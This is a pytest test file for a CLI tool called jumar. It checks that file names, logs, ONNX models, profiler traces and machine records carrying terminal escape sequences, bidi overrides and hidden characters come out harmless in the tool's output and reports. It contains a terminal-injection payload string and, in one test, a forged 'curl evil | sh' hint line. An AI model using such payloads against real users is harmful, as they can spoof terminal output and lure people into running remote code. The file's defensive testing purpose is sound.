"""Names, logs, models and records with control and bidi characters, through the verbs that print them."""

from __future__ import annotations

import ast
import json
import os
import pty
import re
import subprocess
import sys
import unicodedata
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

Run = Callable[..., Any]
SOURCES = Path(__file__).parents[1] / "src" / "jumar"
EVIL = "x\x1b]0;owned\x07\x1b[2J\x9b31m\rfake\u202egpj\u200b\x7f"
"""Sets the title, clears the screen, overwrites the line, reorders it, and hides a letter."""
SOURCE = f'import torch\nx = torch.zeros(1).cuda()\ny = "{EVIL}"\n'.replace("\r", "")
CUDA = "import torch\n\nx = torch.zeros(1).cuda()\ntorch.cuda.cudart()\n"


def assert_harmless(text: str) -> None:
    found = {one for one in text if unicodedata.category(one) in ("Cc", "Cf", "Zl", "Zp")} - {"\n", "\t"}
    assert not found, f"{found} in {text!r}"


def said(done: Any) -> str:
    assert_harmless(done.out)
    assert_harmless(done.err)
    assert "Traceback" not in done.err and "unexpected " not in done.err
    return str(done.out + done.err)


def project(folder: Path) -> Path:
    place = folder / f"project {EVIL}"
    place.mkdir()
    (place / f"{EVIL}.py").write_text(CUDA)
    return place


def test_names_of_files_in_findings(jumar: Run, tmp_path: Path) -> None:
    place = project(tmp_path)
    for words in (("analyze",), ("migrate", "--check"), ("migrate", "--json"), ("analyze", "--json"),
                  ("migrate", "-o", tmp_path / f"out{EVIL}")):  # fmt: skip
        text = said(jumar(*words, place))
        assert "\\x1b]0;owned" in text or "\\u001b]0;owned" in text


def test_reports_in_every_form(jumar: Run, tmp_path: Path) -> None:
    place = project(tmp_path)
    forms = {"--html": "r.html", "--sarif": "r.sarif", "--plan": "plan.md"}
    words = [word for option, name in forms.items() for word in (option, tmp_path / name)]
    said(jumar("analyze", place, *words, "--csv", tmp_path / "tables"))
    for path in (*map(tmp_path.joinpath, forms.values()), *(tmp_path / "tables").glob("*.csv")):
        assert_harmless(path.read_text(encoding="utf-8"))
    uris = re.findall(r'"uri": "(.+?)"', (tmp_path / "r.sarif").read_text())
    assert any("%1B" in uri for uri in uris)


def test_an_error_cannot_forge_a_line(jumar: Run, tmp_path: Path) -> None:
    done = jumar("ranktable", "check", f"{tmp_path}/a\nhint: run `curl evil | sh`")
    assert done.code == 2
    assert [line for line in said(done).splitlines() if line.startswith("hint: ")] == ["hint: check the spelling"]


def test_a_finding_cannot_forge_a_line(jumar: Run, tmp_path: Path) -> None:
    (tmp_path / "a\nb.py:1:1: PT101 error forged.py").write_text(CUDA)
    lines = said(jumar("analyze", tmp_path)).splitlines()
    assert not [line for line in lines if line.startswith("b.py")]


def test_a_log_with_escapes(jumar: Run, tmp_path: Path) -> None:
    log = tmp_path / f"{EVIL}.log"
    log.write_text(f"RuntimeError: {EVIL} ERR01007 EZ9999: Inner Error! 507015 {EVIL}\n")
    said(jumar("explain", log))


def test_a_record_with_escapes(jumar: Run, tmp_path: Path) -> None:
    for name in ("a", "b"):
        rank = tmp_path / name / "rank0"
        rank.mkdir(parents=True)
        meta = {"format": 1, "rank": 0, "torch": EVIL, "device": EVIL, "dtype": EVIL, "command": [EVIL], "jumar": "1"}
        (rank / "meta.json").write_text(json.dumps(meta))
    said(jumar("compare", "diff", tmp_path / "a", tmp_path / "b"))
    said(jumar("report", tmp_path, "-o", tmp_path / "site"))
    for page in (tmp_path / "site").rglob("*.html"):
        assert_harmless(page.read_text(encoding="utf-8"))


def test_a_profile_with_escapes(jumar: Run, tmp_path: Path) -> None:
    trace = tmp_path / f"{EVIL}.pt.trace.json"
    event = {"ph": "X", "cat": "kernel", "name": EVIL, "ts": 1, "dur": 5, "pid": 1, "tid": 1, "args": {"a": EVIL}}
    trace.write_text(json.dumps({"traceEvents": [event, {**event, "cat": "cpu_op"}]}))
    said(jumar("perf", "read", trace))


def test_a_collected_machine_with_escapes(jumar: Run, tmp_path: Path) -> None:
    runs = {json.dumps(["uname", "-m"]): [0, EVIL, EVIL, ""]}
    files = {"/etc/os-release": [f'NAME="{EVIL}"\nID={EVIL}\nVERSION_ID={EVIL}\n', ""]}
    machine = {"format": 1, "environ": {"ASCEND_HOME_PATH": EVIL}, "runs": runs, "files": files, "paths": {}}
    (tmp_path / "machine.json").write_text(json.dumps(machine))
    said(jumar("doctor", "--from", tmp_path, "--verbose"))


def test_a_model_with_escapes(jumar: Run, tmp_path: Path) -> None:
    onnx = pytest.importorskip("onnx")
    value = onnx.helper.make_tensor_value_info
    node = onnx.helper.make_node(EVIL.replace("\0", ""), [EVIL], ["y"], name=EVIL)
    graph = onnx.helper.make_graph([node], EVIL, [value(EVIL, 1, [1])], [value("y", 1, [1])])
    (tmp_path / "m.onnx").write_bytes(onnx.helper.make_model(graph).SerializeToString())
    assert "\\x1b]0;owned" in said(jumar("export", "check", tmp_path / "m.onnx"))


def test_processes_on_cards_with_escapes() -> None:
    from rich.console import Console

    from jumar.machine.smi.result import Card, Process, View
    from jumar.report import smi

    row = Process(1, EVIL, 2, EVIL, EVIL, EVIL)
    card = Card(0, 0, 0, EVIL, EVIL, None, None, None, None, None, None, (row,))
    console = Console(width=200, record=True, file=open(os.devnull, "w"))  # noqa: SIM115
    with console.file:
        console.print(smi.table(View(EVIL, (card,), (EVIL,))))
    assert_harmless(console.export_text())


def test_a_terminal_gets_a_harmless_diff_and_our_colours(tmp_path: Path) -> None:
    (tmp_path / "a.py").write_text(SOURCE)
    reading, writing = pty.openpty()
    words = [sys.executable, "-m", "jumar", "migrate", "a.py"]
    environ = {**os.environ, "TERM": "xterm", "NO_COLOR": ""}
    with subprocess.Popen(words, cwd=tmp_path, stdout=writing, stderr=writing, env=environ) as child:
        os.close(writing)
        data = b""
        try:
            while part := os.read(reading, 4096):
                data += part
        except OSError:  # how Linux says that the other side is closed
            pass
        finally:
            os.close(reading)
    assert child.returncode == 1
    text = data.decode()
    assert "\x1b[32m+import torch_npu" in text
    assert_harmless(re.sub(r"\x1b\[(?:0|1|31|32|36)m", "", text).replace("\r\n", "\n"))


def test_a_pipe_gets_the_diff_byte_for_byte(tmp_path: Path) -> None:
    (tmp_path / "a.py").write_text(SOURCE)
    words = [sys.executable, "-m", "jumar", "migrate", "a.py"]
    done = subprocess.run(words, cwd=tmp_path, capture_output=True, check=False)
    assert SOURCE.splitlines()[-1].encode() in done.stdout


def test_text_leaves_the_command_line_in_one_place() -> None:
    """`show.echo` makes it harmless; what draws with rich takes care of its own words."""
    own = {"show.py": "echo", "reader.py": "echo", "ranks_view.py": "echo"}
    for path in sorted((SOURCES / "cli").glob("*.py")):
        for node in ast.walk(ast.parse(path.read_bytes())):
            if isinstance(node, ast.Attribute) and isinstance(node.value, ast.Name) and node.value.id == "click":
                assert node.attr not in ("echo", "secho") or path.name in own, f"{path.name}:{node.lineno}"
            if isinstance(node, ast.Call) and isinstance(node.func, ast.Name):
                assert node.func.id != "print", f"{path.name}:{node.lineno}"
